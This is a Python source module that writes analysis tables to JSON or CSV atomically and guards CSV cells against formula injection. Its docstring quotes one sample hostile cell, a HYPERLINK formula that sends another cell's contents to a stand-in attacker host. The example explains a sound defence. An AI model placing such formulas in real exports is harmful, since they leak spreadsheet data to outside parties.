"""Write an :class:`~analysis.core.Analysis` as JSON (one object keyed by table) or CSV
(one file per table), atomically: a file is either complete or absent.

CSV files are opened in spreadsheets, and article text is untrusted: a cell such as
``=HYPERLINK("http://evil.example/?leak="&A2,"Read")`` would run as a formula. As OWASP
recommends against CSV injection, a text cell that begins with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return (or the full-width ``＝＋－＠``) is written with a
leading apostrophe, which spreadsheets read as "this is text". A text that is a plain
number ("-5", "+3.2%") cannot be a formula and is left alone; numeric columns are
numbers and untouched. JSON and Parquet hold the exact text: they are for code.

Every CSV the package writes goes through :func:`csv_text`: rows end in CRLF (RFC 4180),
so a text cell holding a line break of either kind, a lone ``\r`` from an old Mac file
included, is quoted and stays one cell. (With ``\n`` line ends Python's writer leaves a
bare ``\r`` unquoted, and a spreadsheet starts a new row at it: the text after it would
become an unguarded first cell.)
"""

from __future__ import annotations

import json
import math
import os
import re
import shutil
import sys
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import numpy as np
import pandas as pd

from analysis.schema import TABLES

__all__ = [
    "to_records", "to_json_dict", "to_json", "write_json", "write_csv", "atomic_write_text", "spreadsheet_safe",
    "output_folder", "print_progress", "csv_text", "CSV_LINE_END", "staged_output", "publish", "json_ready",
]  # fmt: skip

#: First characters that make a spreadsheet read a cell as a formula (OWASP's list, and
#: the full-width forms some spreadsheets also accept).
FORMULA_START = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
#: A plain number ("-5", "+3.2", "-1,000", "-12%"): harmless, left as it is. Without
#: anchors, so Python's ``re`` and Arrow's RE2 use the same pattern.
PLAIN_NUMBER = r"[+-]?(?:\d[\d,]*)?\.?\d+%?"
_PLAIN_NUMBER = re.compile(PLAIN_NUMBER)
#: How every CSV row ends: CRLF, so the writer quotes any cell holding ``\r`` or ``\n``.
CSV_LINE_END = "\r\n"
#: The guard's mark: a leading apostrophe, which spreadsheets hide and read as "text".
FORMULA_GUARD = "'"


def json_ready(value):
    """A JSON-ready Python value: NaN/NA become None, numpy scalars become Python."""
    if isinstance(value, (list, tuple)):
        return [json_ready(v) for v in value]
    if isinstance(value, dict):
        return {k: json_ready(v) for k, v in value.items()}
    if isinstance(value, np.ndarray):
        return [json_ready(v) for v in value.tolist()]
    if value is None or value is pd.NA or value is pd.NaT:
        return None
    if isinstance(value, np.generic):
        value = value.item()
    if isinstance(value, float) and math.isnan(value):
        return None
    return value


def to_records(frame: pd.DataFrame) -> list[dict]:
    """Rows of a table as JSON-ready dicts."""
    columns = list(frame.columns)
    return [{col: json_ready(val) for col, val in zip(columns, row)} for row in frame.itertuples(index=False, name=None)]


def to_json_dict(analysis) -> dict:
    """The JSON form: ``meta``, ``text``, ``warnings`` and one list of rows per table."""
    data = {"meta": json_ready(analysis.meta), "text": analysis.text, "warnings": list(analysis.warnings)}
    for name, frame in analysis.tables.items():
        data[name] = to_records(frame)
    # Derived views, for convenience (not part of the span contract).
    for name in analysis.VIEW_NAMES:
        data[name] = to_records(getattr(analysis, name))
    return data


def to_json(analysis, *, indent: int | None = 1) -> str:
    """The JSON form as a string."""
    return json.dumps(to_json_dict(analysis), ensure_ascii=False, indent=indent)


def print_progress(message: str) -> None:
    """One progress line of a command that writes a folder (report, exercise, grade), on
    stderr so that stdout stays the command's data."""
    print(message, file=sys.stderr, flush=True)


def output_folder(path: str | Path, *, hint: str = "") -> Path:
    """An output folder a user named, as an absolute path: resolved against the directory
    the command was started from (whatever directory a notebook kernel later runs in).

    Raises:
        InputError: It names an existing file.
    """
    from analysis.errors import InputError

    folder = Path(path).absolute()
    if folder.exists() and not folder.is_dir():
        raise InputError(f"{folder} is a file, not a folder: give --out a folder{hint}")
    return folder


def atomic_write_text(path: Path, content: str) -> None:
    """Write ``content`` to ``path`` through a temporary file and a rename."""
    path = Path(path)
    fd, tmp = tempfile.mkstemp(prefix=f".{path.name}.", suffix=".tmp", dir=path.parent)
    try:
        with os.fdopen(fd, "w", encoding="utf-8", newline="") as handle:
            handle.write(content)
        # mkstemp makes the file private (0600); give it the usual permissions.
        umask = os.umask(0)
        os.umask(umask)
        os.chmod(tmp, 0o666 & ~umask)
        os.replace(tmp, path)
    except BaseException:
        Path(tmp).unlink(missing_ok=True)
        raise


@contextmanager
def staged_output(out: Path, *, prefix: str) -> Iterator[Path]:
    """A staging folder for what a command writes, inside ``out`` (created): everything is
    made there and :func:`publish` moves it in at the end, so a failure leaves nothing
    half-written. Inside, not beside, ``out``: the move is a rename on one filesystem
    even when ``out`` is a mount point of its own (a USB stick, a network share). When
    the command fails, the folders this call created are removed again if they are empty."""
    out = Path(out)
    # The folders this call makes (out and any missing parents), innermost first.
    made = [folder for folder in (out, *out.parents) if not folder.exists()]
    try:
        out.mkdir(parents=True, exist_ok=True)
        with tempfile.TemporaryDirectory(prefix=prefix, dir=out) as staging:
            yield Path(staging)
    except BaseException:
        for folder in made:
            try:
                folder.rmdir()  # only if empty: another command may have written there meanwhile
            except OSError:
                break
        raise


def publish(staging: Path, out: Path) -> list[Path]:
    """Move everything made in ``staging`` into ``out``, readable by all; a folder of the
    same name from an earlier run is replaced whole. Returns every file written."""
    out.mkdir(parents=True, exist_ok=True)
    written = []
    for root, dirs, files in os.walk(staging):
        for name in dirs:
            os.chmod(Path(root) / name, 0o755)
        for name in files:
            os.chmod(Path(root) / name, 0o644)
            written.append(out / (Path(root) / name).relative_to(staging))
    for made in sorted(staging.iterdir()):
        target = out / made.name
        if target.is_dir() and not target.is_symlink():
            old = staging / f".old-{made.name}"
            os.replace(target, old)
            os.replace(made, target)
            shutil.rmtree(old, ignore_errors=True)
        else:
            os.replace(made, target)
    return sorted(written)


def write_json(analysis, out_dir: Path, *, name: str = "tables.json") -> Path:
    """Write the JSON form to ``out_dir/name``; returns the path."""
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    path = out_dir / name
    atomic_write_text(path, to_json(analysis))
    return path


def spreadsheet_safe(value):
    """``value`` as a CSV cell a spreadsheet will not run: a text starting like a formula
    gets a leading apostrophe (see the module's docstring); anything else is returned as it is."""
    if isinstance(value, str) and value and value[0] in FORMULA_START and not _PLAIN_NUMBER.fullmatch(value):
        return FORMULA_GUARD + value
    return value


def _csv_ready(frame: pd.DataFrame) -> pd.DataFrame:
    """The frame as its CSV holds it: lists become JSON strings, so they read back
    unambiguously (also lists read back from Parquet, which arrive as numpy arrays), and
    text cells are made :func:`spreadsheet_safe`."""
    frame = frame.copy()
    for col in frame.columns:
        if pd.api.types.is_numeric_dtype(frame[col].dtype) or pd.api.types.is_bool_dtype(frame[col].dtype):
            continue  # numbers stay numbers
        if frame[col].dtype == object and frame[col].map(lambda v: isinstance(v, (list, dict, np.ndarray))).any():
            frame[col] = frame[col].map(lambda v: json.dumps(json_ready(v), ensure_ascii=False))
        else:
            frame[col] = frame[col].map(spreadsheet_safe)
    return frame


def csv_text(frame: pd.DataFrame) -> str:
    """``frame`` as the text of a CSV file a spreadsheet reads safely: lists as JSON, text
    cells :func:`spreadsheet_safe`, CRLF row ends (so line breaks inside a cell are quoted),
    no index. Every CSV the package writes is made here."""
    return _csv_ready(frame).to_csv(index=False, lineterminator=CSV_LINE_END)


def write_csv(analysis, out_dir: Path) -> list[Path]:
    """Write one CSV per table, then per derived view, into ``out_dir``; returns the paths.
    All of them or none: they are made in a staging folder and moved in together."""
    out_dir = Path(out_dir)
    with staged_output(out_dir, prefix=".tables-") as staging:
        for name in (*TABLES, *analysis.VIEW_NAMES):
            (staging / f"{name}.csv").write_text(csv_text(getattr(analysis, name)), encoding="utf-8", newline="")
        return publish(staging, out_dir)
